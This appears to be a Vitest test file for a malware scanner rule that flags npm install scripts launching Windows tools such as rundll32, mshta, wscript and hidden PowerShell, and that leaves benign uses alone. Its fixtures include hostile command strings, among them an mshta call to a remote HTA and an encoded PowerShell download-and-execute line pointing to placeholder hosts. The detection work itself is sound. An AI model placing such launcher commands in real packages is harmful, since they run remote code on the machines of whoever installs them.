import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';

const RULE = 'windows-launchers';
const CP = "const { execSync, spawn } = require('child_process'); const path = require('path');\n";
const enc = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

describe('windows-launchers reports', () => {
  test.each([
    ['rundll32 with a shipped DLL', "execSync(`rundll32 ${path.join(__dirname, 'lib', 'update.dll')},Start`);", { 'lib/update.dll': Buffer.from('MZ') }, 'rundll32'],
    ['regsvr32 with a shipped DLL', "execSync('regsvr32 /s ' + path.join(__dirname, 'helper.dll'));", { 'helper.dll': Buffer.from('MZ') }, 'regsvr32'],
    ['mshta with a shipped HTA', "spawn('mshta', [path.join(__dirname, 'ui.hta')], { detached: true });", { 'ui.hta': '<script>x</script>' }, 'mshta'],
    ['wscript with a shipped VBScript', "execSync('wscript //B //Nologo ' + path.join(__dirname, 'run.vbs'));", { 'run.vbs': 'CreateObject("WScript.Shell").Run "x"' }, 'Windows Script Host'],
    ['mshta with a URL', "execSync('mshta https://203.0.113.7/a.hta');", {}, 'remote code'],
    ['encoded PowerShell that downloads', `execSync('powershell -NoP -W Hidden -enc ${enc("IEX (New-Object Net.WebClient).DownloadString('https://dl.invalid/a.ps1')")}');`, {}, 'DownloadString'],
    ['a hidden Start-Process of a shipped exe', "execSync(`powershell -c \"Start-Process ${path.join(__dirname, 'bin', 'svc.exe')} -WindowStyle Hidden\"`);", { 'bin/svc.exe': Buffer.from('MZ') }, 'Start-Process'],
  ])('%s at install is critical and malicious', (_label, code, extra, what) => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node i.js' } }), 'i.js': CP + code, ...extra });
    expect(r.of(RULE)).toEqual([finding('critical', ['windows-launcher'], { reach: 'install', message: expect.stringContaining(what) })]);
    expect(r.verdict).toBe('malicious');
  });

  test('a .cmd file started by the lifecycle script that runs a shipped script with cscript', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { preinstall: 'cmd /c setup.cmd' } }), 'setup.cmd': '@echo off\r\ncscript //nologo "%~dp0lib\\init.js"\r\n', 'lib/init.js': 'var sh = new ActiveXObject("WScript.Shell");' });
    expect(r.of(RULE)).toEqual([finding('critical', ['windows-launcher'], { file: 'setup.cmd' })]);
    expect(r.verdict).toBe('malicious');
  });
});

describe('windows-launchers stays quiet', () => {
  test.each([
    ['opening a URL with url.dll', "module.exports = (u) => execSync(`rundll32 url.dll,FileProtocolHandler ${u}`);"],
    ['PowerShell running a caller-given command', "module.exports = (c) => spawn('powershell', ['-NoProfile', '-Command', c]);"],
    ['cscript running a system script', "module.exports = () => execSync('cscript //nologo C:\\\\Windows\\\\System32\\\\slmgr.vbs /dli');"],
  ])('%s', (_label, code) => {
    const r = scanFiles({ 'index.js': CP + code });
    expect(r.of(RULE).every((f) => f.severity === 'low')).toBe(true);
    expect(r.verdict).toBe('clean');
  });

  test('a CLI that runs a shipped helper script through cscript when asked is not malicious', () => {
    const r = scanFiles({ 'package.json': manifest({ bin: { tool: 'cli.js' } }), 'cli.js': CP + "execSync('cscript //nologo ' + path.join(__dirname, 'shortcut.vbs'));", 'shortcut.vbs': 'x' });
    expect(r.of(RULE)).toEqual([finding('medium', [], { reach: 'bin' })]);
    expect(r.verdict).not.toBe('malicious');
  });
});
